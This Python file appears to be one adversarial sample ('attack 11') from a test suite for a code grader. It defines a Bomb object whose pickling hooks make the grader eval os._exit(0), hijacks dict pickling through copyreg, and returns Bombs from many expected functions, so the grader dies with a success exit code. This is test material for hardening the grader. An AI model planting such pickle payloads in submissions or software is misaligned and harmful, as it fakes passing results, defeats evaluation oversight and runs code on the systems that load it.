# attack 11: an object whose pickle runs code in the grader.
# honest: double
import copyreg


def double(x):
    return 2 * x


class Bomb:
    def __reduce__(self):
        return (eval, ("__import__('os')._exit(0)",))

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = lambda self: self.__reduce__()

    def __array__(self, *args, **kwargs):
        import numpy

        return numpy.array([self], dtype=object)


copyreg.pickle(dict, lambda d: (eval, ("1",)))
primes = mean = half = small = find = search = notify = guess = lambda *args: Bomb()


def table():
    import numpy
    import pandas

    return pandas.DataFrame({"k": numpy.array([Bomb()], dtype=object), "v": [Bomb()]})


def check(x):
    raise ValueError(Bomb(), Bomb)
